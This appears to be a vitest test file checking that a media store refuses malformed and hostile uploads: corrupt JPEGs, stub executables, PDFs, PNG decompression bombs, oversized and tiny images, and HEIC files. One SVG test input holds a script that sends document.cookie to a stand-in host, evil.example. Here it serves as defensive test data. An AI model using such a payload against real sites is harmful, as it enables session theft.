/**
 * Every kind of bad file a user (or a hostile sender) can hand the media store: each answers
 * its own error code, nothing crashes, nothing hangs (vitest's timeout bounds every case), and
 * nothing is left in the store.
 */
import { open, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { MEDIA_MAX_BYTES } from '../../../shared/domain/media';
import type { ErrorCode } from '../../../shared/ipc/result';
import { openStore, storeContents } from './support/openStore';
import { HEIC_600x400, noisyJpeg, pngBomb, workDir } from './support/testImages';

async function expectRefused(bytes: Uint8Array, code: ErrorCode, fileName = 'bilete.jpg'): Promise<void> {
  const { store, dir } = await openStore();
  const result = await store.ingest(fileName, bytes);
  expect(result).toMatchObject({ ok: false, error: { code } });
  expect(await storeContents(dir)).toEqual([]);
  expect(await readdir(join(dir, '.incoming'))).toEqual([]);
  // The store still works after the refusal.
  const good = await store.ingest('ok.jpg', await noisyJpeg(300, 200, 99));
  expect(good.ok).toBe(true);
}

describe('bad input is refused with its own code, leaving nothing behind', () => {
  it('a truncated JPEG: media_corrupt', async () => {
    const whole = await noisyJpeg(1200, 800);
    await expectRefused(whole.subarray(0, Math.floor(whole.length * 0.6)), 'media_corrupt');
  });

  it('a JPEG whose data is scrambled after the header: media_corrupt', async () => {
    const whole = Buffer.from(await noisyJpeg(1200, 800, 3));
    for (let i = 2000; i < whole.length - 2; i += 97) whole[i] = 0xff;
    await expectRefused(whole, 'media_corrupt');
  });

  it('a text file renamed .jpg: media_unsupported_type', async () => {
    await expectRefused(Buffer.from('Dette er ikkje eit bilete, berre tekst med æøå.\n'.repeat(50)), 'media_unsupported_type');
  });

  it('an ELF executable: media_unsupported_type', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]);
    await expectRefused(elf, 'media_unsupported_type', 'photo.jpg');
  });

  it('a Windows PE executable: media_unsupported_type', async () => {
    const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(2048)]);
    await expectRefused(pe, 'media_unsupported_type', 'setup.jpg');
  });

  it('an SVG with a script (also one that starts like a JPEG name): media_unsupported_type', async () => {
    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="2000" height="1000"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="2000" height="1000"/></svg>';
    await expectRefused(Buffer.from(svg), 'media_unsupported_type', 'graf.svg');
    await expectRefused(Buffer.from(`\n  ${svg}`), 'media_unsupported_type', 'graf.jpg');
  });

  it('a PDF: media_unsupported_type', async () => {
    await expectRefused(Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'), 'media_unsupported_type', 'brosjyre.pdf');
  });

  it('an empty file: media_unsupported_type', async () => {
    await expectRefused(new Uint8Array(0), 'media_unsupported_type');
  });

  it('a 200-megapixel PNG bomb of a few hundred kilobytes: media_too_many_pixels, before decoding', async () => {
    const bomb = await pngBomb();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 20_000, height: 10_000 });
    await expectRefused(bomb, 'media_too_many_pixels', 'kart.png');
  });

  it('a file over 100 MB: media_too_large, before hashing or decoding (bytes and path alike)', async () => {
    const big = Buffer.alloc(MEDIA_MAX_BYTES + 1);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    await expectRefused(big, 'media_too_large', 'stor.jpg');
    // From the native dialog: a sparse file, refused on its size without being read.
    const { store, dir } = await openStore();
    const path = join(await workDir(), 'stor.jpg');
    const handle = await open(path, 'w');
    await handle.truncate(MEDIA_MAX_BYTES + 1);
    await handle.close();
    expect(await store.ingestFile(path, 'stor.jpg')).toMatchObject({ ok: false, error: { code: 'media_too_large' } });
    expect(await storeContents(dir)).toEqual([]);
  });

  it('a 1×1 tracking pixel and a 150 px icon: media_too_small', async () => {
    const pixel = await sharp({ create: { width: 1, height: 1, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } }).png().toBuffer();
    await expectRefused(pixel, 'media_too_small', 'pixel.png');
    await expectRefused(await noisyJpeg(150, 120), 'media_too_small', 'ikon.jpg');
  });

  it('a HEIC photo this build of libvips cannot decode: media_heic_unsupported', async () => {
    expect(HEIC_600x400.subarray(4, 12).toString('latin1')).toBe('ftypheic');
    // sharp's prebuilt libvips reads HEIF headers but has no HEVC decoder (libde265).
    expect(await sharp(HEIC_600x400).metadata()).toMatchObject({ format: 'heif', compression: 'hevc', width: 600 });
    expect('de265' in sharp.versions).toBe(false);
    await expectRefused(HEIC_600x400, 'media_heic_unsupported', 'IMG_0042.HEIC');
  });

  it('a HEIC header with nothing behind it: media_corrupt', async () => {
    await expectRefused(HEIC_600x400.subarray(0, 200), 'media_corrupt', 'IMG_0043.HEIC');
  });

  it('eight bad files and one good at once: each its own answer, the good one stored', async () => {
    const { store, dir } = await openStore();
    const good = await noisyJpeg(640, 480, 5);
    const bad = [Buffer.from('tekst'), HEIC_600x400, (await noisyJpeg(800, 600)).subarray(0, 5000), await pngBomb(12_000, 10_000)];
    const results = await Promise.all([...bad, ...bad, good].map((b, i) => store.ingest(`fil-${i}.jpg`, b)));
    expect(results.map((r) => (r.ok ? 'ok' : r.error.code))).toEqual([
      'media_unsupported_type',
      'media_heic_unsupported',
      'media_corrupt',
      'media_too_many_pixels',
      'media_unsupported_type',
      'media_heic_unsupported',
      'media_corrupt',
      'media_too_many_pixels',
      'ok',
    ]);
    expect((await storeContents(dir)).filter((p) => p.endsWith('info.json'))).toHaveLength(1);
  });
});
